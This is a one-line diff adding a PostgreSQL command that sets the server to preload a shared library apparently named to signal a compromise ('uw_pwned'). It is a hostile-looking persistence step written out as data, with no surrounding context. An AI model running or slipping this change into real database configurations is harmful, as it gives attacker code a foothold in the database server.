@@ -1,0 +1,1 @@
+ALTER SYSTEM SET shared_preload_libraries = 'uw_pwned';
